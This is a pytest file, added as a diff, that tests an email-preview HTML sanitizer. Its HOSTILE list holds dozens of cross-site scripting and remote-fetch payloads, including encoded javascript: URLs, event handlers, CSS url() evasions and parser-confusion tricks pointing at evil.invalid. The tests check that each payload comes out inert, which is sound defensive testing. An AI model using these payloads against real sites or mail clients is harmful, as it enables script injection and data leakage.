@@ -1,0 +1,224 @@
+"""The preview sanitizer (mailnest.web.sanitize): pure, no sockets."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from mailnest.web.sanitize import document, sanitize, scrub_css, text_document, text_links
+
+PART = "/api/v1/message/ID/part/2"
+
+
+class _Collect(HTMLParser):
+    """Every start tag with its attributes, and the text inside <style> elements, as a browser would see."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str]]] = []
+        self.style_text: list[str] = []
+        self._in_style = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, {k: v or "" for k, v in attrs}))
+        self._in_style = tag == "style"
+
+    def handle_endtag(self, tag: str) -> None:
+        self._in_style = False
+
+    def handle_data(self, data: str) -> None:
+        if self._in_style:
+            self.style_text.append(data)
+
+
+def parsed(html: str) -> _Collect:
+    collector = _Collect()
+    collector.feed(html)
+    collector.close()
+    return collector
+
+
+# Known ways to get script or a network request out of HTML. Each must come out inert.
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"javascript:alert(1)\">",
+    "<body onload=alert(1)>",
+    "<svg onload=alert(1)><circle r=1 /></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
+    "<a href=\"java&#x09;script:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
+    "<iframe src=\"http://evil.invalid/\"></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=\"http://evil.invalid/x.swf\"></object>",
+    "<embed src=\"http://evil.invalid/x.swf\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.invalid/\">",
+    "<link rel=stylesheet href=\"http://evil.invalid/x.css\">",
+    "<base href=\"http://evil.invalid/\">",
+    "<form action=\"http://evil.invalid/\" method=post><input name=p><button>go</button></form>",
+    "<button formaction=\"http://evil.invalid/\">x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video poster=\"http://evil.invalid/p.png\"><source src=\"http://evil.invalid/v.mp4\"></video>",
+    "<audio src=\"http://evil.invalid/a.mp3\" autoplay></audio>",
+    "<img srcset=\"http://evil.invalid/a.png 1x\">",
+    "<picture><source srcset=\"http://evil.invalid/a.png\"><img></picture>",
+    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<div style=\"behavior:url(x.htc)\">x</div>",
+    "<div style=\"-moz-binding:url(http://evil.invalid/x.xml#x)\">x</div>",
+    "<style>@import url(http://evil.invalid/x.css);</style>",
+    "<style>@import 'http://evil.invalid/x.css';</style>",
+    "<style>body{background:url(http://evil.invalid/x.png)}</style>",
+    "<style>body{background:\\75 rl(http://evil.invalid/x.png)}</style>",
+    "<style>body{background:ur/**/l(http://evil.invalid/x.png)}</style>",
+    "<style>@font-face{font-family:x;src:url(http://evil.invalid/f.woff)}</style>",
+    "<style>body{background-image:image-set(\"http://evil.invalid/x.png\" 1x)}</style>",
+    "<style></style><script>alert(1)</script>",
+    "<style>a{color:red}</style ><img src=x onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "<template><script>alert(1)</script></template>",
+    "<xmp><script>alert(1)</script></xmp>",
+    "<!--<script>alert(1)</script>-->",
+    "<div id=\"x\" onclick=\"alert(1)\" onmouseover=\"alert(1)\">x</div>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<a href=\"//evil.invalid/\">x</a>",
+    "<img src=\"//evil.invalid/track.gif\">",
+    "<img src=\"\\\\evil.invalid\\track.gif\">",
+]
+
+URL_ATTRIBUTES = {"href", "src", "background", "action", "formaction", "poster", "srcset", "data", "xlink:href",
+                  "cite", "longdesc", "lowsrc", "dynsrc"}
+ALLOWED_LINK = ("http://", "https://", "mailto:", "tel:", PART)
+
+
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_hostile_html_comes_out_inert(payload: str) -> None:
+    preview = sanitize(payload, cid_urls={"logo@x": PART})
+    doc = parsed(preview.body)
+    forbidden = {"script", "iframe", "object", "embed", "meta", "link", "base", "form", "input", "button",
+                 "svg", "math", "video", "audio", "source", "picture", "textarea", "template", "xmp", "noscript",
+                 "isindex", "marquee"}
+    for tag, attrs in doc.tags:
+        assert tag not in forbidden, preview.body
+        for name, value in attrs.items():
+            assert not name.startswith("on"), preview.body
+            if name in URL_ATTRIBUTES:
+                assert name in {"href", "src"}, preview.body
+                assert value.startswith(ALLOWED_LINK) or value.startswith("data:image/"), preview.body
+                assert "evil.invalid" not in value, preview.body
+            if name == "style":
+                assert "url(" not in value.replace('url("' + PART, ""), preview.body
+                assert "expression" not in value and "behavior" not in value and "binding" not in value
+    for css in doc.style_text:
+        assert "@import" not in css and "evil.invalid" not in css and "url(" not in css, preview.body
+    assert "javascript:" not in preview.body.lower()
+
+
+def test_links_open_in_a_new_tab_without_opener_or_referrer() -> None:
+    preview = sanitize('<a href="https://example.com/a?b=1&amp;c=2">x</a>')
+    (tag, attrs), = parsed(preview.body).tags
+    assert tag == "a"
+    assert attrs["href"] == "https://example.com/a?b=1&c=2"
+    assert attrs["target"] == "_blank"
+    assert set(attrs["rel"].split()) == {"noopener", "noreferrer"}
+
+
+def test_remote_images_are_blocked_and_counted_by_default() -> None:
+    html = ('<img src="https://img.example/a.png"><table background="http://img.example/b.png"><tr>'
+            '<td style="background:url(https://img.example/c.png)">x</td></tr></table>'
+            "<style>.x{background:url('http://img.example/d.png')}</style>")
+    blocked = sanitize(html)
+    assert blocked.remote_images == 4
+    assert "img.example" not in blocked.body
+    allowed = sanitize(html, allow_remote=True)
+    assert allowed.remote_images == 4
+    for name in ("a", "b", "c", "d"):
+        assert f"img.example/{name}.png" in allowed.body
+
+
+def test_remote_mode_still_refuses_script_urls() -> None:
+    preview = sanitize('<img src="javascript:alert(1)"><div style="background:url(javascript:x)">y</div>',
+                       allow_remote=True)
+    assert "javascript" not in preview.body
+
+
+def test_cid_images_point_at_the_message_part() -> None:
+    html = '<img src="cid:Logo@Example"><img src="cid:unknown@x"><div style="background:url(cid:logo@example)">x</div>'
+    preview = sanitize(html, cid_urls={"<logo@example>": PART})
+    srcs = [attrs.get("src") for tag, attrs in parsed(preview.body).tags if tag == "img"]
+    assert srcs == [PART, None]
+    assert f'url("{PART}")' in preview.body.replace("&quot;", '"')
+    assert preview.remote_images == 0
+
+
+def test_embedded_image_data_survives_but_not_other_data() -> None:
+    preview = sanitize('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,<b>x</b>">')
+    srcs = [attrs.get("src") for tag, attrs in parsed(preview.body).tags if tag == "img"]
+    assert srcs == ["data:image/png;base64,iVBORw0KGgo=", None]
+
+
+def test_presentation_survives() -> None:
+    html = ('<table width="600" cellpadding="4" bgcolor="#eeeeee" align="center"><tr><td style="color:#333;'
+            'font-size:14px" valign="top"><font face="Arial" color="red">Hi</font> <b>there</b></td></tr></table>'
+            "<style>p { margin: 0 }</style><p class=\"lead\">para</p>")
+    body = sanitize(html).body
+    doc = parsed(body)
+    table = dict(doc.tags)["table"]
+    assert table["width"] == "600" and table["bgcolor"] == "#eeeeee" and table["cellpadding"] == "4"
+    assert dict(doc.tags)["td"]["style"] == "color:#333;font-size:14px"
+    assert dict(doc.tags)["font"] == {"face": "Arial", "color": "red"}
+    assert doc.style_text == ["p { margin: 0 }"]
+    assert dict(doc.tags)["p"]["class"] == "lead"
+
+
+def test_style_elements_in_the_head_are_kept_and_head_junk_is_dropped() -> None:
+    html = "<html><head><title>T</title><style>h1{color:red}</style></head><body><h1>Hi</h1></body></html>"
+    body = sanitize(html).body
+    assert "<title>" not in body and ">T<" not in body
+    assert "<style>h1{color:red}</style>" in body
+    assert "<h1>Hi</h1>" in body
+
+
+def test_css_scrubbing_rules() -> None:
+    assert scrub_css("color: red") == "color: red"
+    assert scrub_css("background: url(http://x.example/a.png) no-repeat") == "background: none no-repeat"
+    assert scrub_css("@import url(x.css); a{}") == " a{}"
+    assert scrub_css("a{b:\\75 rl(http://x.example/)}") == "a{b:none}"
+    assert "url(" not in scrub_css("a{b:url( 'http://x.example/a' b)}")
+    assert scrub_css('a{content:"\\201C"}') == 'a{content:"\\201C"}'
+
+
+def test_links_are_collected_in_order_without_duplicates() -> None:
+    html = ('<a href="https://a.example/1">1</a><a href="mailto:x@y.example">m</a>'
+            '<a href="https://a.example/1">again</a><a href="javascript:x">j</a><a href="tel:123">t</a>')
+    assert sanitize(html).links == ("https://a.example/1", "mailto:x@y.example")
+
+
+def test_text_links() -> None:
+    text = "See https://x.example/path. Or (http://y.example/q?a=1) and mailto:me@x.example, https://x.example/path"
+    assert text_links(text) == ("https://x.example/path", "http://y.example/q?a=1", "mailto:me@x.example")
+
+
+def test_documents() -> None:
+    doc = document(sanitize("<p>hi</p>"))
+    assert doc.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in doc and "<body><p>hi</p></body>" in doc
+    assert "&lt;script&gt;" in text_document("<script>")
+
+
+def test_empty_and_huge_inputs() -> None:
+    assert sanitize("").body == ""
+    big = "<p>" + "x" * 1_000_000 + "</p>" + "<img src=x onerror=alert(1)>" * 1000
+    preview = sanitize(big)
+    assert "onerror" not in preview.body and len(preview.body) > 1_000_000
